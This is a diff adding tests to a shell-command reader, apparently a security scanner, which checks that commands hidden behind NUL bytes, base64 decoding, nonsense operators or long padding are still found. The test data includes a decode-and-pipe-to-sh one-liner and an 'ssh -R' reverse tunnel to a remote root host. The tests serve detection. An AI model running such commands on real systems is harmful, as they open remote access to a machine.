@@ -58,6 +58,18 @@ describe('A text made to blind the reader', () => {
     expectBounded(reading)
   })
 
+  it('hides no command behind NUL that a decoder prints', () => {
+    const script = `if true; then s\0sh -R 9000:localhost:22 root@203.0.113.9; fi`
+    const reading = read(`echo ${btoa(script)} | base64 -d | sh`)
+    expect(reading.commands.map(({ argv }) => argv.join(' '))).toContain(attack)
+  })
+
+  it('hides no command behind operators that make no sense', () => {
+    const reading = read(`${r('{)', 4_000)}\n${attack}`)
+    expect(reading.notFully).toBe('too many operators')
+    expect(reading.commands.some(({ argv }) => argv.join(' ').includes(attack))).toBe(true)
+  })
+
   it('hides no command between two long runs of one padding', () => {
     for (const padding of [r('true;', 2e5), r('x y\n', 2e5)]) {
       expect(read(`${padding}${attack}\n${padding}`).commands.map(({ argv }) => argv.join(' '))).toContain(attack)
@@ -89,6 +101,9 @@ describe('A text made to break the reader', () => {
     ['xargs fed by thousands of words', `echo ${r('a ', 5000)} | xargs ssh`],
     ['printf that repeats', `printf '${r('%s', 5000)}' ${r('a ', 100)}`],
     ['lone surrogates', r('\ud800\udfff\udc00 ', 2000)],
+    ['operators alone', r('|', 24_000)],
+    ['brackets that open nothing', r('{)', 12_000)],
+    ['NUL, decoded', `echo ${btoa(`if ${r('\0', 15_000)}`)} | base64 -d | sh`],
     ['prose', r("it's a (test, of) prose; isn't it? {maybe} [yes]\n", 200)],
     ['Python', r("def f(x):\n    return [y for y in x if y > 'it']\n", 200)],
   ])('is read within bounds: %s', (_, text) => {
